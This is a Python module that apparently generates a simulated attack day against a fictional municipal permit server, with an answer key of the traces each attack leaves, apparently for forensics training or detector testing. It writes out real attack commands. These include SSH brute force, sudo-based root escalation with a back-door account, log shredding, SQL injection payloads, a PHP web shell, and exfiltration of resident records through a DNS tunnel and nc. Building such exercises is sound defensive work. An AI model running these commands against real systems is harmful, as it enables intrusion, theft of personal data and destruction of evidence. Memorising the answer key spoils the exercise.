"""The attacks: real tools from outside addresses, and what each of them is known to leave behind."""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from datetime import timedelta
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

from day import AGENTS, BOT, DB, RESIDENTS, SITE, WEB, Visitor, at
from stage import Session

if TYPE_CHECKING:
    from collections.abc import Callable
    from datetime import datetime

    from day import Day, Story

NGINX, APACHE = "var/log/nginx/access.log", "var/log/apache2/access.log"
AUTH, AUDIT = "var/log/auth.log", "var/log/audit/audit.log"
POSTGRES = "var/log/postgresql/postgresql-15-main.log"
LARAVEL = "var/www/izin/storage/logs/laravel.log"
INTRUDER, SHELL = "203.0.113.66", "198.51.100.23"
BACKDOOR, BACKDOOR_PASSWORD = "sysbackup", "Cadangan#77"
TUNNEL = "t.update-cdn.example"
GAMBLING = (
    "<?php $situs = htmlspecialchars($_GET['situs'] ?? 'maxwin'); ?><!doctype html><html lang=id>"
    "<title>Slot Gacor Maxwin - Judi Online Terpercaya</title><h1>Situs judi online"
    " <?= $situs ?></h1><p>Daftar slot gacor hari ini, bonus new member 100, RTP live.</p>"
    "<a href=https://maxwin.example/daftar>Daftar slot</a>"
)
FOOTER = (
    "<div style=position:absolute;left:-9999px><a href=/slot-gacor-maxwin/>slot gacor</a>"
    " <a href=/slot-gacor-maxwin/?situs=togel>togel online</a></div>"
)


@dataclass(slots=True)
class Attack:
    """One line of the truth file, and the story that makes it true."""

    id: str
    title_en: str
    title_id: str
    host: str
    files: tuple[str, ...]
    evidence: tuple[str, ...]
    start: str
    story: Callable[[Day], Story] | None = None
    sources: tuple[str, ...] = ()
    user: str = ""
    same_as: str = ""
    """The attack whose trace on another host this is; it has no story of its own."""
    span: list[datetime] = field(default_factory=list)

    def told(self, day: Day) -> Story:
        """The story, with its first and last moment kept."""
        self.span = [day.clock.now() - timedelta(seconds=1)]
        if self.story:
            yield from self.story(day)
        self.span.append(day.clock.now() + timedelta(seconds=2))


def port_scan(day: Day) -> Story:
    """Nmap knocks at a thousand ports while an ordinary visitor goes on reading."""
    scan = "nmap -sS -Pn -n -T4 -e eth0 -S 203.0.113.200 -p 1-1000,3306,5432,6379,8080 " + WEB
    capture = day.web.start(
        "tcpdump", "-Z", "root", "-U", "-i", "eth0", "-w", "/root/portscan.pcap"
    )
    yield day.outside.start("sleep", "2")
    reader = Visitor(day, RESIDENTS[0], AGENTS[3])
    for page in ("/", "/persyaratan", "/izin/2"):
        reader.ask(page)
    yield day.outside.start(*scan.split())
    reader.ask("/kontak")
    # Packets reach tcpdump in blocks, up to a second late.
    yield day.outside.start("sleep", "2")
    capture.terminate()
    capture.wait()


def content_discovery(day: Day) -> Story:
    """Gobuster tries names of forgotten files."""
    day.network.leave_from("outside", "203.0.113.77")
    words = ("-u", f"http://{WEB}/", "-w", "/root/paths.txt", "-t", "4", "-q", "--no-error")
    yield day.outside.start("gobuster", "dir", *words)


def brute_force(day: Day) -> Story:
    """Hydra guesses until the weak account gives in."""
    day.network.leave_from("outside", INTRUDER)
    words = ("-l", "operator", "-P", "/root/passwords.txt", "-t", "4", "-f", "-I", f"ssh://{WEB}")
    yield day.outside.start("hydra", *words)
    # The last guesses are still being refused when hydra has already won.
    yield day.outside.start("sleep", "6")


def intruder(day: Day, user: str, password: str) -> Session:
    """Log in from the intruder's address."""
    return Session(day.outside, f"{user}@{WEB}", "-b", INTRUDER, password=password)


def escalation(day: Day) -> Story:
    """The guessed account becomes root through the editors it may run, and leaves a back door."""
    session = intruder(day, "operator", "operator1")
    for line in ("id", "uname -r", "cat /etc/passwd | tail -3", "sudo -l"):
        session.type(line, password="operator1")
        yield 14
    session.type("sudo cat /etc/shadow")
    yield 11
    session.type("sudo vim -c '!sh'", until=rb"# $")
    session.type("id")
    session.type("exit", until=rb"ENTER|continue")
    session.type("", until=rb".")
    session.type(":q!")
    yield 25
    session.type("sudo find /etc/hostname -exec /bin/bash \\;")
    session.type(f"useradd -m -s /bin/bash -G sudo {BACKDOOR}")
    session.type(f"echo '{BACKDOOR}:{BACKDOOR_PASSWORD}' | chpasswd")
    yield 20
    session.type("exit")
    session.close()


def log_deletion(day: Day) -> Story:
    """The back door is used to remove what was written about its making."""
    session = intruder(day, BACKDOOR, BACKDOOR_PASSWORD)
    lines = (
        "sudo ls -l /var/log",
        "sudo rm -f /var/log/auth.log.1 /var/log/syslog.1",
        "sudo truncate -s 0 /var/log/btmp",
        "sudo shred -u /var/log/nginx/error.log.1.gz",
        "sudo rm -f /home/operator/.bash_history",
        "history -c",
    )
    for line in lines:
        session.type(line, password=BACKDOOR_PASSWORD)
        yield 17
    session.close()


def sqlmap(day: Day) -> Story:
    """Sqlmap finds the fault of the search page and reads the names of the tables."""
    day.network.leave_from("outside", "203.0.113.150")
    words = f"sqlmap -u http://{WEB}/cari?q=Agus --batch --flush-session --dbms=PostgreSQL -p q"
    words += " --prefix=%' --suffix=--+x --technique=BEU --current-user --tables --retries=0"
    yield day.outside.start(*words.split(), log=str(day.outside.room / "sqlmap"))


def sql_by_hand(day: Day) -> Story:
    """Someone with an ordinary browser does the same by hand."""
    hand = Visitor(day, "203.0.113.151", AGENTS[3])
    hand.ask("/")
    tries = (
        "'",
        "%' OR 1=1 --",
        "' UNION SELECT null,null --",
        "' UNION SELECT table_name,null,null FROM information_schema.tables --",
        "' UNION SELECT surel,sandi,null FROM pengguna --",
        "' UNION SELECT nik,nama,alamat FROM penduduk --",
        "'; SELECT pg_sleep(2) --",
    )
    for words in tries:
        yield day.chance.uniform(15, 60)
        hand.ask(f"/cari?{urlencode({'q': words})}", f"http://{SITE}/cari")


def web_shell(day: Day) -> Story:
    """A script goes up as a scan of a family card and then answers commands."""
    hand = Visitor(day, SHELL, AGENTS[0])
    hand.ask("/unggah")
    yield 40
    script = b"<?php system($_GET['" + b"cmd']); ?>"
    hand.ask("/unggah", f"http://{SITE}/unggah", file=("kartu_keluarga.php", script))
    for command in ("id", "whoami", "ls -la ..", "cat ../../.env", "cat /etc/passwd"):
        yield day.chance.uniform(8, 40)
        hand.ask(f"/uploads/kartu_keluarga.php?cmd={quote(command)}")


def gambling(day: Day) -> Story:
    """Through the script a gambling page appears and links hide in the foot of every page."""
    hand = Visitor(day, SHELL, AGENTS[0])
    targets = (
        (GAMBLING, "../slot-gacor-maxwin/index.php"),
        (FOOTER, "../../storage/footer.html"),
    )
    hand.ask(f"/uploads/kartu_keluarga.php?cmd={quote('mkdir -p ../slot-gacor-maxwin')}")
    for text, target in targets:
        yield 35
        coded = base64.b64encode(text.encode()).decode()
        command = quote(f"echo {coded} | base64 -d > {target}", safe="")
        hand.ask(f"/uploads/kartu_keluarga.php?cmd={command}")
    referers = ("https://www.google.com/", "https://www.google.co.id/", "https://www.bing.com/")
    for number in range(60):
        yield day.chance.uniform(20, 180)
        player = f"198.51.100.{201 + number % 20}"
        site = day.chance.choice(("maxwin", "togel", "slot88", "gacor"))
        agent, referer = day.chance.choice(AGENTS), day.chance.choice(referers)
        Visitor(day, player, agent).ask(f"/slot-gacor-maxwin/?situs={site}", referer)
        if number % 15 == 0:
            Visitor(day, "192.0.2.34", BOT).ask("/slot-gacor-maxwin/")


def leaked_sheet(day: Day) -> Story:
    """The sheet of residents lies under the web root; a search engine knew it, and two fetch it."""
    sheet = "/unduhan/data-penduduk-2026.xlsx"
    first = Visitor(day, "192.0.2.144", AGENTS[1])
    first.ask(sheet, "https://www.google.com/")
    yield 300
    second = Visitor(day, "192.0.2.145", "curl/8.5.0")
    second.ask(sheet, method="HEAD")
    yield 2
    second.ask(sheet)


def number_in_address(day: Day) -> Story:
    """A link of the old site carries the resident's number in the address."""
    for address in ("198.51.100.190", "198.51.100.191", "198.51.100.192"):
        for person in day.people[:4]:
            asker = Visitor(day, address, AGENTS[1])
            asker.ask(f"/cek-izin?nik={person.nik}", f"http://{SITE}/izin")
            yield day.chance.uniform(60, 400)


def database_export(day: Day) -> Story:
    """From the taken web server passwords of the database are guessed and residents copied out."""
    session = intruder(day, BACKDOOR, BACKDOOR_PASSWORD)
    guesses = (
        "admin 123456 postgres laporan laporan123 laporan2025 rahasia izin2026 perizinan kabupaten"
    )
    ask = f"PGPASSWORD=$p psql -h {DB} -U laporan -d perizinan -c 'SELECT 1'"
    session.type(f"for p in {guesses}; do {ask}; sleep 1; done")
    yield 25
    copy = "COPY (SELECT * FROM penduduk) TO STDOUT WITH CSV HEADER"
    session.type(
        f"PGPASSWORD=laporan2026 psql -h {DB} -U laporan -d perizinan -c '{copy}' > /tmp/.cache.csv"
    )
    yield 20
    session.close()


def dns_tunnel(day: Day) -> Story:
    """The copy leaves through the office's own resolver, hidden in questions for names."""
    serve = f"iodined -f -c -P lubang -l 203.0.113.53 10.99.0.1/24 {TUNNEL}"
    server = day.outside.start(*serve.split())
    listen = ("-c", "timeout 40 nc -l 9000 > /root/received")
    receiver = day.outside.start("sh", *listen)
    dump = ("tcpdump", "-Z", "root", "-U", "-i", "eth0", "-w", "/root/dns-tunnel.pcap")
    capture = day.web.start(*dump, "port", "53")
    yield day.outside.start("sleep", "2")
    for name in (SITE, "antrean.contoh-kab.example", "surel.contoh-kab.example"):
        day.web.run("getent", "ahostsv4", name, check=False)
        yield 2
    session = intruder(day, BACKDOOR, BACKDOOR_PASSWORD)
    session.type(
        f"sudo iodine -P lubang -r -T TXT -m 180 -F /run/iodine.pid 10.61.12.1 {TUNNEL}",
        password=BACKDOOR_PASSWORD,
    )
    yield day.outside.start("sleep", "15")
    session.type("cat /tmp/.cache.csv | nc -N 10.99.0.1 9000")
    yield receiver
    session.type("sudo kill $(cat /run/iodine.pid)")
    session.close()
    yield day.outside.start("sleep", "2")
    capture.terminate()
    capture.wait()
    server.terminate()


ATTACKS = [
    Attack(
        "port-scan", "Port scan of the web server", "Pemindaian port server web",
        "network", ("portscan.pcap.gz",), (), "08:50", port_scan, ("203.0.113.200",),
    ),
    Attack(
        "content-discovery", "Search for forgotten files", "Pencarian berkas tersembunyi",
        "web-izin", (NGINX, APACHE), ("/.git/HEAD", "gobuster/"), "09:15", content_discovery,
        ("203.0.113.77",),
    ),
    Attack(
        "ssh-brute-force", "SSH brute force that succeeds", "Tebak sandi SSH yang berhasil",
        "web-izin", (AUTH,),
        (f"Failed password for operator from {INTRUDER}",
         f"Accepted password for operator from {INTRUDER}"),
        "09:50", brute_force, (INTRUDER,), "operator",
    ),
    Attack(
        "privilege-escalation", "Root through sudo find and vim, back-door account",
        "Hak root lewat sudo find dan vim, akun pintu belakang",
        "web-izin", (AUTH, AUDIT),
        ("COMMAND=/usr/bin/find /etc/hostname -exec /bin/bash", f"new user: name={BACKDOOR}"),
        "10:12", escalation, (INTRUDER,), "operator",
    ),
    Attack(
        "log-deletion", "Logs removed by the back-door account",
        "Log dihapus oleh akun pintu belakang", "web-izin", (AUTH, AUDIT),
        ("COMMAND=/usr/bin/rm -f /var/log/auth.log.1", "COMMAND=/usr/bin/truncate -s 0"),
        "10:40", log_deletion, (INTRUDER,), BACKDOOR,
    ),
    Attack(
        "sqlmap", "SQL injection by sqlmap", "Injeksi SQL dengan sqlmap",
        "web-izin", (NGINX, APACHE, LARAVEL), ("sqlmap/1.7", "production.ERROR: SQLSTATE"),
        "11:12", sqlmap, ("203.0.113.150",),
    ),
    Attack(
        "sql-injection-by-hand", "SQL injection by hand with an ordinary browser",
        "Injeksi SQL manual dengan peramban biasa",
        "web-izin", (NGINX, APACHE, LARAVEL), ("UNION+SELECT+nik",), "11:40", sql_by_hand,
        ("203.0.113.151",),
    ),
    Attack(
        "sqlmap-in-database", "Errors of the injection in the database",
        "Galat injeksi di basis data", "db-izin", (POSTGRES,),
        ("ERROR:  syntax error at or near", "ORDER BY position"), "11:12",
        sources=(WEB,), user="izin_app", same_as="sqlmap",
    ),
    Attack(
        "sql-injection-by-hand-in-database", "Errors of the injection in the database",
        "Galat injeksi di basis data", "db-izin", (POSTGRES,),
        ("each UNION query must have the same number of columns",), "11:40",
        sources=(WEB,), user="izin_app", same_as="sql-injection-by-hand",
    ),
    Attack(
        "web-shell", "Web shell uploaded and used", "Web shell diunggah dan dipakai",
        "web-izin", (NGINX, APACHE, LARAVEL, AUDIT),
        ("GET /uploads/kartu_keluarga.php?cmd=id", '"berkas":"uploads/kartu_keluarga.php"'),
        "13:10", web_shell, (SHELL,),
    ),
    Attack(
        "gambling-links", "Online gambling pages injected", "Halaman judi online disisipkan",
        "web-izin", (NGINX, APACHE),
        ("GET /slot-gacor-maxwin/?situs=", "mkdir%20-p%20../slot-gacor-maxwin"),
        "13:42", gambling,
        (SHELL, "192.0.2.34", *(f"198.51.100.{number}" for number in range(201, 221))),
    ),
    Attack(
        "leaked-spreadsheet", "Spreadsheet of residents fetched from the web root",
        "Lembar data penduduk diunduh dari web", "web-izin", (NGINX,),
        ("GET /unduhan/data-penduduk-2026.xlsx",), "14:20", leaked_sheet,
        ("192.0.2.144", "192.0.2.145"),
    ),
    Attack(
        "nik-in-url", "Resident numbers in web addresses", "NIK di dalam alamat web",
        "web-izin", (NGINX, APACHE), ("GET /cek-izin?nik=6112",), "14:30", number_in_address,
        ("198.51.100.190", "198.51.100.191", "198.51.100.192"),
    ),
    Attack(
        "database-export", "Database passwords guessed, residents copied out",
        "Sandi basis data ditebak, data penduduk disalin", "db-izin", (POSTGRES,),
        ('password authentication failed for user "laporan"', "COPY (SELECT * FROM penduduk)"),
        "15:05", database_export, (WEB,), "laporan",
    ),
    Attack(
        "dns-tunnel", "Data taken out through a DNS tunnel", "Data dikeluarkan lewat terowongan DNS",
        "network", ("dns-tunnel.pcap.gz",), (), "15:35", dns_tunnel, (WEB,),
    ),
]  # fmt: skip


def plan_attacks(day: Day) -> None:
    """Put every attack at its time."""
    for attack in ATTACKS:
        if attack.story:
            day.plan(at(attack.start), attack.told(day))


def spans() -> dict[str, tuple[datetime, datetime]]:
    """When each attack began and ended, traces on other hosts included."""
    told = {attack.id: (attack.span[0], attack.span[-1]) for attack in ATTACKS if attack.span}
    seen = {attack.id: told[attack.same_as] for attack in ATTACKS if attack.same_as in told}
    return told | seen
